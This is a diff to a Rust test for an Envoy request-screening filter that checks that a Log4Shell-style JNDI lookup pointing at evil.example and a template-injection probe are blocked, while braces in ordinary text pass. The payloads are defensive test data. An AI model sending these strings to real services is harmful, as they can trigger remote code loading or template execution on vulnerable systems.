@@ -96,6 +96,27 @@ fn screening_in_envoy() {
         403,
         "request_blocked",
     );
+    // The categories beyond those four are on by default: a JNDI lookup in a header the
+    // policy does not list, template injection in the query; and prose with braces passes.
+    assert_refused(
+        &get(
+            addr,
+            "/",
+            &[("x-api-version", "${jndi:ldap://evil.example/a}")],
+        ),
+        403,
+        "request_blocked",
+    );
+    assert_refused(
+        &get(addr, "/items?q=%7B%7B7*7%7D%7D", &[]),
+        403,
+        "request_blocked",
+    );
+    upstream_saw(&get(
+        addr,
+        "/items?q=Hello+%7B%7Bname%7D%7D",
+        &[("x-note", "${PRICE}")],
+    ));
 
     // 413 from Content-Length alone: the headers arrive, no body is sent, the answer comes.
     let r = send_raw(
@@ -198,7 +219,10 @@ fn screening_in_envoy() {
     assert_eq!(envoy.counter("pavise_screen_limit_body"), 1);
     assert_eq!(envoy.counter("pavise_screen_limit_inspection"), 1);
     assert_eq!(envoy.counter("pavise_screen_limit_content_type"), 1);
-    assert_eq!(envoy.counter("pavise_screen_passed"), 3);
+    assert_eq!(envoy.counter("pavise_screen_blocked_jndi"), 1);
+    assert_eq!(envoy.counter("pavise_screen_rule_jndi_001"), 1);
+    assert_eq!(envoy.counter("pavise_screen_blocked_ssti"), 1);
+    assert_eq!(envoy.counter("pavise_screen_passed"), 4);
     assert_eq!(envoy.counter("pavise_screen_internal_error"), 0);
 
     let lines = envoy.decision_lines("pavise.screen");
